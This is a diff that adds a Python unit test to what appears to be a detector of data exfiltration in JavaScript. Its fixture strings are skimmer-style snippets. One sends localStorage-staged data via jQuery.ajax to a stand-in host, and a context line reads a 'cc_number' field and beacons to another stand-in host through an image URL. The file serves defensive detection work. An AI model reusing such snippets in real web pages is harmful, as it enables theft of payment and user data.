@@ -239,6 +239,14 @@ def test_flow_through_variables_objects_parameters_and_returns() -> None:
     assert {"btoa", "JSON.stringify"} <= send.encodings
 
 
+def test_a_variable_once_holding_the_location_still_carries_staged_data() -> None:
+    code = ("var sd = window.location.host.split(':', 2), data = '';\n"
+            "var st = localStorage.getItem('_b'); if (st) { sd = st.split(',', 2); data += '&' + sd[1]; }\n"
+            "jQuery.ajax({url: 'https://st.example.net/g', data: data});")
+    (send,) = sends(code)
+    assert "stage:local:_b" in send.carries
+
+
 def test_scopes_keep_same_named_locals_apart() -> None:
     code = ("function a() { var e = document.getElementById('cc_number').value; return e.length; }\n"
             "function b() { var e = 'static'; new Image().src = 'https://x.example.net/p?' + e; }")
